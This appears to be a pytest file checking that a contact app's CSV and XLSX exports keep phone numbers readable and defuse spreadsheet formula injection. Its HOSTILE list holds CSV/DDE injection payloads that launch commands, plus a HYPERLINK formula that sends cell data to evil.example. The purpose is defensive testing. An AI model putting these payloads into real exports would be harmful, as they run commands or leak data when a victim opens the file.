"""Texts in an exported file stay texts: phones readable, nothing that a spreadsheet would run."""

from __future__ import annotations

import shutil
import subprocess
from pathlib import Path

import pytest

from kartoteka.api import Client, Contact, ContactPoint
from kartoteka.services.export_cells import MOST_IN_CELL, fitting, inert
from kartoteka.services.selection import Selection
from kartoteka.testing import Firm
from tests.core.naughty import strings
from tests.core.test_exports import add, column, export

HOSTILE = [
    '=cmd|" /C calc"!A0', "+1+1", "-2+3", "@SUM(1+9)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1",
    " =1+1", "＝1+1", "=HYPERLINK(\"http://evil.example?x=\"&A1,\"Click\")", "'=1+1",
    'DDE ("cmd";"/C calc";"!A0")A0',
]  # fmt: skip


@pytest.mark.parametrize("form", ["xlsx", "csv"])
def test_phones_are_readable_texts(firm: Firm, tmp_path: Path, form: str) -> None:
    (person,) = add(firm, Contact(name="Иванов"))
    add(firm, ContactPoint(contact_id=person, kind="phone", value="+79161234567"))
    rows = export(firm, "contact_point", tmp_path / f"points.{form}", columns=("value",))
    assert rows[1][1].replace(" ", "").replace("-", "") == "+79161234567"
    if form == "xlsx":
        (cell,) = column(tmp_path / "points.xlsx", "value")
        assert (cell.data_type, cell.number_format) == ("s", "@")


@pytest.mark.parametrize(
    ("typed", "written"),
    [
        ("+7 (879) 800-43-96 доб. 336", "+7 (879) 800-43-96 доб. 336"),
        ("+359 2 987 12 34 вътр. 12", "+359 2 987 12 34 вътр. 12"),
        ("+7 879 800-43-96 ext. 336", "+7 879 800-43-96 ext. 336"),
        ("8 (879) 800-43-96", "8 (879) 800-43-96"),
        # These would become an amount and a subtraction.
        ("+79161234567", "+7 916 123-45-67"),
        ("+7-916-123-45-67", "+7 916 123-45-67"),
        ("+1234567", "'+1234567"),
        ("+7 916 123-45-67 доб. 1+1", "'+7 916 123-45-67 доб. 1+1"),
        ("+7 916 123-45-67 cmd 1", "'+7 916 123-45-67 cmd 1"),
        ("+7 916 123-45-67\n=1", "'+7 916 123-45-67\n=1"),
        ("+7*916*123", "'+7*916*123"),
    ],
)
def test_a_phone_in_csv_stays_readable_and_no_formula(typed: str, written: str) -> None:
    assert inert(typed) == written


def test_hostile_and_naughty_texts_arrive_as_texts(firm: Firm, tmp_path: Path) -> None:
    texts = [*HOSTILE, *(text for text in strings() if text.strip() and len(text) <= 250)]
    kept = [text for text in texts if "\0" not in text and not _has_surrogate(text)]
    add(firm, *(Client(name=text, external_id=str(n)) for n, text in enumerate(kept)))
    order = Selection(order="id")
    path = tmp_path / "c.xlsx"
    export(firm, "client", path, selection=order, columns=("name",))
    for cell in column(path, "name"):
        assert (cell.data_type, cell.number_format) == ("s", "@"), cell.value
    rows = export(firm, "client", tmp_path / "c.csv", selection=order, columns=("name",))
    assert [row[1] for row in rows[1:]] == [inert(text) for text in kept]
    for row in rows[1:]:
        assert row[1][0] not in "=+-@\t\r\n＝＋－＠"


def _has_surrogate(text: str) -> bool:
    return any(0xD800 <= ord(sign) <= 0xDFFF for sign in text)


@pytest.mark.slow
@pytest.mark.parametrize("form", ["xlsx", "csv"])
def test_libreoffice_runs_nothing_of_an_export(
    firm: Firm, tmp_path: Path, form: str, shared_data: Path
) -> None:
    office = shutil.which("soffice")
    if office is None:
        pytest.skip("LibreOffice is not installed.")
    listed = shared_data / "07-naughty-and-names" / "csv_injection.txt"
    phones = ("+79161234567", "+7-916-123-45-67", "+7 (879) 800-43-96 доб. 336")
    texts = [*HOSTILE, *phones, *listed.read_text("utf-8").splitlines()]
    add(firm, *(Client(name=f"{text} ", note=text) for text in texts))
    path = tmp_path / f"clients.{form}"
    export(firm, "client", path, selection=Selection(order="id"), columns=("name", "note"))
    (tmp_path / "out").mkdir()
    # 44,34,76: comma, quote, UTF-8; formulas and special numbers as a person would have them.
    read_as = ["--infilter=CSV:44,34,76,1,,0,false,true,false"] if form == "csv" else []
    subprocess.run(
        [office, f"-env:UserInstallation=file://{tmp_path}/profile", "--headless", *read_as,
         "--convert-to", "fods", "--outdir", str(tmp_path / "out"), str(path)],
        check=True, timeout=180, capture_output=True,
    )  # fmt: skip
    opened = (tmp_path / "out" / "clients.fods").read_text("utf-8")
    assert "table:formula" not in opened
    assert "Click" in opened
    assert 'office:value-type="string"' in opened
    assert 'office:value="79161234567"' not in opened
    assert ">+7 (879) 800-43-96 доб. 336<" in opened


def test_texts_longer_than_a_cell_are_cut() -> None:
    assert fitting("x" * MOST_IN_CELL) == "x" * MOST_IN_CELL
    cut = fitting("😀" * MOST_IN_CELL)
    assert cut.endswith("…")
    assert len(cut.encode("utf-16-le")) // 2 <= MOST_IN_CELL
